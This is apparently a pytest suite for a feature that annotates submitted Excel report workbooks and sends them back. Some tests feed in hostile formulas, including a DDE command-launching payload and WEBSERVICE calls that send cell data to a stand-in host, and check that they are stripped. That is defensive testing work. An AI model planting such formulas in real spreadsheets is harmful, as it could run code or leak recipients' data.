"""Marked workbooks: the sender's own file, coloured, commented, and sent in again."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from xml.sax.saxutils import escape

import openpyxl
import pytest
import xlsxwriter
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from sources.programme.model import Programme
from sources.readers import ReadResult
from sources.readers.rejections import Rejected
from sources.replies.marking import marked_workbook
from sources.replies.wording import COMMENT_HEAD, LOOKS, SHEET
from sources.template.checks import SheetFormulas
from sources.template.content import form_sheet
from sources.template.formulas import is_plain
from tests.helpers.hostile import Base
from tests.unit.sources.replies.conftest import FACTS, FORM, PERIOD, UNIT, remark

Write = Callable[..., bytes]
Read = Callable[[bytes], ReadResult]


def opened(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data), rich_text=True)


def saved(workbook: openpyxl.Workbook) -> bytes:
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def colour(cell: openpyxl.cell.Cell) -> str:
    return cell.fill.fgColor.rgb[2:] if cell.fill.fill_type == "solid" else ""


@pytest.mark.parametrize("severity", list(LOOKS))
def test_a_cell_shows_colour_sign_and_words(workbook: Write, severity: str) -> None:
    data = marked_workbook(workbook(), FACTS, [remark("D13", severity)])
    cell = opened(data)["Biểu"]["D13"]
    look = LOOKS[severity]
    assert colour(cell) == look.colour
    for part in (look.sign, look.vi, look.en, "phải là số", "must be", "từ 3 đến 9"):
        assert part in cell.comment.text
    assert cell.comment.text.index("phải là số") < cell.comment.text.index("must be")


def test_several_findings_share_a_comment_under_the_heaviest_colour(
    workbook: Write,
) -> None:
    said = [remark("D13", "INFO", message_vi="nhẹ"), remark("D13", "BLOCKER")]
    cell = opened(marked_workbook(workbook(), FACTS, said))["Biểu"]["D13"]
    assert colour(cell) == LOOKS["BLOCKER"].colour
    assert cell.comment.text.index("CHẶN") < cell.comment.text.index("nhẹ")


def test_the_rest_of_the_file_stays(workbook: Write) -> None:
    sent = workbook(regular_police=7)
    before, after = opened(sent), opened(marked_workbook(sent, FACTS, [remark("D12")]))
    assert after.sheetnames == [*before.sheetnames, SHEET]
    assert after.active.title == SHEET
    assert [s.sheet_view.tabSelected for s in after] == [False, False, True]
    for title in before.sheetnames:
        old, new = before[title], after[title]
        assert [[str(c.value) for c in row] for row in old] == [
            [str(c.value) for c in row] for row in new
        ]
        assert new.protection.sheet == old.protection.sheet
        assert new.print_area == old.print_area
        assert new.print_title_rows == old.print_title_rows
        assert len(new.data_validations.dataValidation) == len(
            old.data_validations.dataValidation
        )
        assert new.merged_cells.ranges == old.merged_cells.ranges
        assert new.column_dimensions["B"].width == old.column_dimensions["B"].width
    assert after["Biểu"]["D13"].number_format == before["Biểu"]["D13"].number_format
    assert after["Biểu"]["D12"].protection.locked is False


def test_marked_cells_of_a_protected_sheet_can_be_corrected(workbook: Write) -> None:
    said = [remark(f"B{row}", sheet="Thông tin") for row in (5, 6)]
    meta = opened(marked_workbook(workbook(), FACTS, said))["Thông tin"]
    assert meta.protection.sheet
    assert [meta[f"B{row}"].protection.locked for row in (4, 5, 6)] == [
        True,
        False,
        False,
    ]


def test_the_summary_names_and_links_each_place(workbook: Write) -> None:
    said = [remark("D13"), remark("", "WARNING", sheet="", message_vi="cả báo cáo")]
    sheet = opened(marked_workbook(workbook(), FACTS, said))[SHEET]
    texts = [str(cell.value) for row in sheet for cell in row if cell.value]
    assert any("ĐÃ NHẬN · accepted" in text for text in texts)
    assert any("● LỖI · ERROR: 1" in text for text in texts)
    assert any("cả báo cáo" in text for text in texts)
    linked = [cell for row in sheet for cell in row if cell.hyperlink]
    assert [(c.value, c.hyperlink.location, c.hyperlink.target) for c in linked] == [
        ("D13", "'Biểu'!D13", None)
    ]


def test_places_outside_the_file_stand_in_the_summary_only(workbook: Write) -> None:
    said = [
        remark("D13", sheet="Khác"),
        remark("row 5"),
        remark("14:14", "WARNING"),
        remark("B8", "WARNING"),  # inside the merged box A8:C8
    ]
    book = opened(marked_workbook(workbook(), FACTS, said))
    commented = [c.coordinate for row in book["Biểu"] for c in row if c.comment]
    assert commented == ["A8", "A14"]
    assert sum("phải là số" in str(c.value) for c in book[SHEET]["E"]) == 4


def test_a_new_reply_replaces_the_old_marks_and_keeps_the_senders_comment(
    workbook: Write,
) -> None:
    book = opened(workbook())
    form = book["Biểu"]
    form["D13"].comment = Comment("Đã kiểm tra với xã", "Cán bộ")
    form["E13"].fill = PatternFill("solid", fgColor="FF00FF00")
    before = colour(form["D13"])
    once = marked_workbook(saved(book), FACTS, [remark("D13"), remark("E13")])
    cell = opened(once)["Biểu"]["D13"]
    assert cell.comment.text.startswith("Đã kiểm tra với xã\n\n" + COMMENT_HEAD)
    assert cell.comment.author == "Cán bộ"
    again = opened(marked_workbook(once, FACTS, [remark("D12", "WARNING")]))
    assert again.sheetnames.count(SHEET) == 1
    assert again.sheetnames[-1] == SHEET
    form = again["Biểu"]
    assert form["D13"].comment.text == "Đã kiểm tra với xã"
    assert (colour(form["D13"]), colour(form["E13"])) == (before, "00FF00")
    assert form["E13"].comment is None
    assert colour(form["D12"]) == LOOKS["WARNING"].colour


def test_a_sheet_of_the_sender_with_our_name_stays(workbook: Write) -> None:
    book = opened(workbook())
    book.create_sheet(SHEET)["A1"] = "của tôi"
    after = opened(marked_workbook(saved(book), FACTS, [remark()]))
    assert after.sheetnames[-2:] == [SHEET, f"{SHEET} 2"]
    assert after[SHEET]["A1"].value == "của tôi"


def test_a_corrected_reply_reads_as_a_normal_submission(
    workbook: Write, read_back: Read
) -> None:
    money = "ô chứa 123456789 đồng; mong đợi 0-312.456.789"
    said = [
        remark(message_vi=money, observed="123456789", expected="0-312.456.789"),
        remark("D12", message_vi="Tệp 0912345678 của a.b@c.vn"),
        remark("D11", observed="Họ và tên", message_vi="ô chứa “hép møt tÕt”"),
        remark("D14", observed="Họ và tên", message_vi="ô chứa “hép møt tÕt”"),
    ]
    book = opened(marked_workbook(workbook(regular_police="abc"), FACTS, said))
    book["Biểu"]["D13"].value = 7
    back = read_back(saved(book))
    assert back.findings.empty, back.findings.message_vi.tolist()
    row = back.submissions.iloc[0]
    assert (row.form_code, row.unit_code, row.period_key) == (FORM, UNIT, PERIOD)
    values = back.observations.set_index("measure_code").value
    assert len(back.observations) == 4
    assert (values["regular_police"], values["movement_models"]) == (7, 2)


def test_an_untouched_reply_reads_like_the_original(
    workbook: Write, read_back: Read
) -> None:
    sent = workbook(regular_police="abc")
    keys = ["measure_code", "value", "observation_status", "raw_text", "cell", "fault"]
    first = read_back(sent).observations[keys]
    again = read_back(marked_workbook(sent, FACTS, [remark()])).observations[keys]
    assert first.fillna("").equals(again.fillna(""))


def test_formulas_leave_their_results() -> None:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        sheet = book.add_worksheet("Biểu")
        sheet.write_formula("A1", "=1+1", value=2)
        sheet.write_formula("A2", '="a"&"<b>"', value="a<b>")
        sheet.write_formula("A3", "=1>0", value=True)
        sheet.write_formula("A4", "=1/0", value="#DIV/0!")
        sheet.write_array_formula("A5:A5", "{=SUM(A1:A1)}", value=2)
        sheet.write_formula("A6", '=IF(1,"","x")', value="")
    data = marked_workbook(out.getvalue(), FACTS, [remark("A1")])
    sheet = opened(data)["Biểu"]
    assert [(c.value, c.data_type) for (c,) in sheet["A1:A5"]] == [
        (2, "n"),
        ("a<b>", "s"),
        (True, "b"),
        ("#DIV/0!", "e"),
        (2, "n"),
    ]
    assert sheet["A6"].value is None


def test_a_formula_never_calculated_leaves_nothing(
    workbook: Write, read_back: Read
) -> None:
    book = opened(workbook())
    book["Biểu"]["D13"].value = "=1+1"
    data = marked_workbook(saved(book), FACTS, [remark()])
    found = read_back(data).observations.set_index("measure_code").observation_status
    assert found["regular_police"] == "missing"


@pytest.mark.parametrize(
    ("formula", "result"),
    [
        ('=WEBSERVICE("http://x.vn/?"&D12)', "answer"),
        ('=_xlfn.WEBSERVICE("http://x.vn/?"&D12)', "answer"),
        ("=cmd|'/c calc'!A0", 0),
        ('=HYPERLINK("http://x.vn","=xem")', "=xem"),
        ("='[other.xlsx]Sheet1'!A1", 7),
        ("=[1]Sheet1!A1", 7),
        ("=Tên_riêng", 7),
        ("=INDIRECT(D12)", 7),
        ("=SUM(D12:D13)", 9),
    ],
)
@pytest.mark.parametrize("column", ["D", "E"])
def test_what_can_act_comes_back_as_its_value(
    workbook: Write, formula: str, result: object, column: str
) -> None:
    """In the sender's boxes, and in the very column of our checks."""
    book = opened(workbook())
    book["Biểu"][f"{column}14"].value = "=9+9"
    sent = with_formula(saved(book), f"{column}14", formula, result)
    back = marked_workbook(sent, FACTS, [remark()])
    cell = opened(back)["Biểu"][f"{column}14"]
    if (column, formula) == ("E", "=SUM(D12:D13)"):
        assert cell.value == formula  # as harmless as what stood there
        return
    assert cell.value == result
    assert cell.data_type == ("s" if isinstance(result, str) else "n")
    assert cell.quotePrefix is (result == "=xem")
    with zipfile.ZipFile(io.BytesIO(back)) as package:
        for part in map(package.read, package.namelist()):
            assert b"x.vn" not in part and b"calc'" not in part


def with_formula(data: bytes, cell: str, formula: str, result: object) -> bytes:
    """The workbook with the formula of one cell, and its stored result, exchanged."""
    out = io.BytesIO()
    kind = ' t="str"' if isinstance(result, str) else ""
    new = f"<f>{escape(formula[1:])}</f><v>{result}</v></c>"
    with (
        zipfile.ZipFile(io.BytesIO(data)) as package,
        zipfile.ZipFile(out, "w") as changed,
    ):
        for name in package.namelist():
            part = package.read(name)
            if name == "xl/worksheets/sheet1.xml":
                text, count = re.subn(
                    rf'<c r="{cell}"([^>]*)><f>9\+9</f><v ?/></c>',
                    lambda found: f'<c r="{cell}"{found[1]}{kind}>{new}',
                    part.decode(),
                )
                assert count == 1
                part = text.encode()
            changed.writestr(name, part)
    return out.getvalue()


def test_the_checks_of_the_template_stay_alive(workbook: Write) -> None:
    sent = workbook()
    before, after = opened(sent), opened(marked_workbook(sent, FACTS, [remark()]))
    formulas = [
        cell.coordinate
        for row in before["Biểu"]
        for cell in row
        if cell.data_type == "f"
    ]
    assert len(formulas) > 8
    assert {after["Biểu"][place].value for place in formulas} == {
        before["Biểu"][place].value for place in formulas
    }
    rules = [len(list(book["Biểu"].conditional_formatting)) for book in (before, after)]
    assert rules[0] == rules[1] > 0
    assert after.calculation.fullCalcOnLoad


def test_every_formula_that_we_write_is_plain(programme: Programme) -> None:
    for form in programme.forms:
        sheet = form_sheet(programme, form)
        made = SheetFormulas(sheet)
        rows = [row for row in sheet.rows if row is not None]
        every = [made.nil(), made.summary(), *map(made.figure, rows)]
        every += map(made.check, rows)
        assert [formula for formula in every if not is_plain(formula)] == []


def test_links_names_and_rules_that_lead_out_go(workbook: Write) -> None:
    book = opened(workbook())
    form = book["Biểu"]
    form["J3"].value, form["J3"].hyperlink = "xem", "http://x.vn"
    book.defined_names["x"] = DefinedName("x", attr_text='WEBSERVICE("http://x.vn")')
    form.conditional_formatting.add(
        "J4", FormulaRule(formula=['WEBSERVICE("http://x.vn")="1"'])
    )
    form.add_data_validation(
        DataValidation("custom", 'WEBSERVICE("http://x.vn")="1"', sqref="J5")
    )
    back = marked_workbook(saved(book), FACTS, [remark()])
    with zipfile.ZipFile(io.BytesIO(back)) as package:
        assert not any(b"x.vn" in package.read(name) for name in package.namelist())
    assert opened(back)["Biểu"]["J3"].value == "xem"


def test_nothing_in_a_reply_leads_out_of_it(workbook: Write) -> None:
    said = [remark(message_vi='=HYPERLINK("http://x.vn")', observed="=1+1")]
    before, after = (
        zipfile.ZipFile(io.BytesIO(data))
        for data in (workbook(), marked_workbook(workbook(), FACTS, said))
    )
    with before, after:
        assert not any(b"TargetMode" in after.read(name) for name in after.namelist())
        for number in (1, 2):
            name = f"xl/worksheets/sheet{number}.xml"
            assert after.read(name).count(b"<f>") == before.read(name).count(b"<f>")
        summary = after.read("xl/worksheets/sheet3.xml")
        assert b"HYPERLINK" in summary
        assert b"<f>" not in summary and b"<f " not in summary


@pytest.mark.parametrize("suffix", ["xls", "xlsb", "ods"])
def test_a_workbook_of_another_kind_is_left_unmarked(workbook, suffix):
    data = getattr(Base(workbook()), f"as_{suffix}")()
    with pytest.raises(Rejected, match=f"no marks can be put into .{suffix}"):
        marked_workbook(data, FACTS, [remark("D13", "ERROR")])
